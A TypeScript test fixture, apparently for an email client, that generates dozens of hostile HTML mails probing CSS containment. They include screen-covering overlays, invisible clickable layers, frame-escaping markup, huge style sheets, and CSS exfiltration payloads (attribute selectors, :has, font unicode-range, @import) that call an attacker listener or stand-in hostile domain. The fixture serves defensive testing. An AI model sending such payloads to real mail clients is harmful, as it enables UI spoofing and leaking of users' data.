import { HOSTILE_DOMAIN } from './index.ts';

/** One attack of styles on what stands around the mail. */
export interface CssMail {
  /** Stands in the mail's text alone: the headers of all these mails are the same. */
  readonly id: string;
  readonly name: string;
  readonly raw: Buffer;
}

/** What an attack paints with, as a browser computes it: red, green and blue. */
export const ATTACK_PAINT = [255, 0, 238] as const;
const PAINT = `rgb(${ATTACK_PAINT.join(',')})`;
/** The text all begin with, longer than what a list shows of a mail. */
const LEAD = 'Good morning, this is the summary of the quarter for all who could not be there on Friday. '.repeat(5);

const box = (style: string, inner = 'x'): string => `<div style="background:${PAINT};${style}">${inner}</div>`;
const sheet = (css: string, inner = '<p>x</p>'): string => `<style>${css}</style>${inner}`;
const filled = (chars: number, css: string): string =>
  css
    .repeat(Math.ceil(chars / css.length))
    .replaceAll('}', '}\r\n')
    .slice(0, chars);
const EVERYTHING = 'nav,main,header,footer,aside,dialog,button,[role],#pane-list,#pane-reader,.reader,.toolbar,body>*';

/** `{paint}` is the colour, `{url}` an address of the attacker's, `{host}` a name that only a DNS query would ask for. Written for this project. */
const CASES: readonly (readonly [name: string, html: string])[] = [
  ['fixed over everything', box('position:fixed;inset:0;z-index:2147483647')],
  ['fixed far beyond the frame', box('position:fixed;top:-2000px;left:-2000px;width:9000px;height:9000px')],
  ['fixed, by a style sheet', sheet('body::before{content:"x";position:fixed;inset:-900px;background:{paint};z-index:999999}')],
  ['absolute beyond the frame', box('position:absolute;top:-900px;left:-900px;width:5000px;height:5000px;z-index:99999')],
  ['sticky', box('position:sticky;top:-500px;height:900px;margin-top:-500px')],
  ['relative, moved away', box('position:relative;left:-700px;top:-300px;width:3000px;height:900px')],
  ['negative margins', box('margin:-900px -900px -900px -900px;padding:900px')],
  ['negative margins by a table', `<table style="margin:-400px;background:${PAINT}" width="4000" height="4000"><tr><td>x</table>`],
  ['z-index over the app', box('position:fixed;top:-60px;left:-800px;width:800px;height:60px;z-index:2147483647', 'Holdover')],
  ['scaled up', box('transform:translate(-500px,-300px) scale(40);width:90px;height:90px')],
  ['in three dimensions', box('transform:perspective(100px) translateZ(90px) rotateY(20deg);width:400px;height:400px')],
  ['zoomed', box('zoom:60;width:90px;height:90px')],
  ['a shadow', box(`width:9px;height:9px;box-shadow:0 0 0 3000px ${PAINT}`)],
  ['an outline', box(`width:9px;height:9px;outline:3000px solid ${PAINT};outline-offset:300px`)],
  ['a filter', box(`width:90px;height:90px;filter:drop-shadow(-600px -200px 0 ${PAINT}) blur(90px)`)],
  [
    'a filter of what lies behind',
    sheet('div{position:fixed;inset:-900px;backdrop-filter:invert(1)}p{background:{paint}}', '<div></div><p>x</p>'),
  ],
  ['blended with what lies behind', box('position:fixed;inset:-900px;mix-blend-mode:difference')],
  [
    'the whole document moved',
    sheet('html,body{position:fixed;margin:-900px;width:9000px;height:9000px;background:{paint};overflow:visible}'),
  ],
  ['invisible, over everything', box('position:fixed;inset:-900px;opacity:0;z-index:2147483647', '<button>x</button>')],
  ['text of one pixel', box('font-size:1px;line-height:1px;color:#fff', 'x '.repeat(4_000))],
  ['text moved away', box('text-indent:-9999px;white-space:nowrap;overflow:visible', 'x '.repeat(4_000))],
  ['letters as high as a house', box('font-size:4000px;line-height:1px')],
  [
    'moved by an animation',
    sheet(
      '@keyframes k{to{transform:translate(-900px,-500px) scale(30)}}div{animation:k 40ms forwards;background:{paint};width:90px;height:90px}',
      '<div></div>',
    ),
  ],
  [
    'blinking',
    sheet('@keyframes k{50%{opacity:0}}div{animation:k 30ms infinite;position:fixed;inset:-900px;background:{paint}}', '<div></div>'),
  ],
  [
    'told by attribute selectors',
    sheet(
      'input[value^=s]{background:url({url}?s)}input[value$=t]{background:url({url}?t)}p{background:{paint}}',
      '<input value="secret"><p>x</p>',
    ),
  ],
  [
    'told by :has',
    sheet(
      'body:has(input[value*=ecre]){background:{paint} url(//{host}/has)}html:has(p){list-style:url({url})}',
      '<input value="secret"><p>x</p>',
    ),
  ],
  [
    'told by the letters of a font',
    sheet(
      '@font-face{font-family:f;src:url({url}?a);unicode-range:U+61}@font-face{font-family:f;src:url({url}?b);unicode-range:U+62}p{font-family:f;background:{paint}}',
      '<p>abc</p>',
    ),
  ],
  [
    'told by visited links and lazy parts',
    sheet(':visited{background:url({url})}:target,:focus,:hover{background:url({url}?h)}p{background:{paint};content-visibility:auto}'),
  ],
  ['@import', sheet('@import "{url}";@import url(//{host}/x.css) layer(x) supports(display:grid) screen;p{background:{paint}}')],
  [
    '@namespace, @charset, @layer, @property',
    sheet(
      '@charset "utf-7";@namespace url({url});@layer a{p{background:{paint}}}@property --bg{syntax:"<color>";inherits:true;initial-value:red}',
    ),
  ],
  [
    'print and other media',
    sheet('@media print{p{background:url({url}?p)}}@page{margin:-9in;@top-left{content:url({url})}}@media all{p{background:{paint}}}'),
  ],
  [
    'a style for the app',
    sheet(
      `${EVERYTHING},:host,::part(x),::slotted(*){display:none!important;background:{paint}!important}`,
      '<nav role="x"></nav><p style="background:{paint}">x</p>',
    ),
  ],
  [
    'variables of the app',
    sheet(':root{--bg:{paint};--fg:{paint};--accent:{paint};--bg-side:{paint};color-scheme:dark}p{background:{paint}}'),
  ],
  [
    'a picture as pointer and scroll bars',
    sheet('*{cursor:url({url}),none}::-webkit-scrollbar{width:900px;height:900px;background:{paint}}p{height:9000px;background:{paint}}'),
  ],
  [
    'a dialog in the top layer',
    `<dialog open style="background:${PAINT};position:fixed;inset:-900px;margin:0">x</dialog><div popover=manual style="display:block;inset:-99px">x</div>`,
  ],
  ['a frame in the frame', `<iframe srcdoc="<body style='background:${PAINT}'>" style="position:fixed;inset:-900px;border:0"></iframe>`],
  ['out of the frame by its end', `</p></body></html></iframe></div></main><div style="position:fixed;inset:-900px;background:${PAINT}">x`],
  [
    'a picture that overflows',
    `<svg style="overflow:visible;width:9px;height:9px"><rect x="-999" y="-999" width="9000" height="9000" fill="${PAINT}"/><foreignObject><p style="position:fixed;inset:0">x</foreignObject></svg>`,
  ],
  [
    'fields and handles',
    `<textarea style="resize:both;width:4000px;height:4000px;background:${PAINT}"></textarea><select size=2 autofocus><option>x</select><input type=date autofocus>`,
  ],
  ['a handle to move the window by', sheet('*{-webkit-app-region:drag;app-region:drag}p{background:{paint}}')],
  ['higher than any window', box('height:10000000px;width:300px')],
  ['wider and higher, in its own measure', sheet('html,body{min-height:100000vh;min-width:100000vw;background:{paint}}')],
  ['columns and running text', box('columns:3;writing-mode:vertical-rl;direction:rtl;margin-left:-4000px;width:9000px', 'x '.repeat(400))],
  ['a million characters of style', sheet(`${filled(1_000_000, 'p a b c d e{color:red;background:url({url}?m)}')}p{background:{paint}}`)],
  ['five million characters of style', sheet(`${filled(5_000_000, 'p{position:fixed;inset:0;background:url({url}?m)}')}`)],
];

/** The attacks as mails of which the headers and what a list shows are the same. `origin`: of the listener, without a slash at the end. */
export function buildCssMails(origin: string): CssMail[] {
  return CASES.map(([name, html], n) => mailOf(`css-${n}`, name, html, origin));
}

/** A mail that does nothing, with the same headers. */
export const innocentCssMail = (id: string): CssMail => mailOf(id, 'innocent', '<p>Yours</p>', '');

function mailOf(id: string, name: string, html: string, origin: string): CssMail {
  const body = html.replaceAll('{paint}', PAINT).replaceAll('{url}', `${origin}/${id}`).replaceAll('{host}', `${id}.${HOSTILE_DOMAIN}`);
  const head = [
    'From: Mallory <mallory@evil.example>',
    'To: katharina.brandt@nordlicht.example',
    'Subject: The quarter',
    `Message-ID: <${id}@evil.example>`,
    'Date: Fri, 27 Nov 2026 10:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
  ];
  return { id, name, raw: Buffer.from(`${head.join('\r\n')}\r\n\r\n<!doctype html><p>${LEAD}</p><p>${id}</p>\r\n${body}\r\n`) };
}
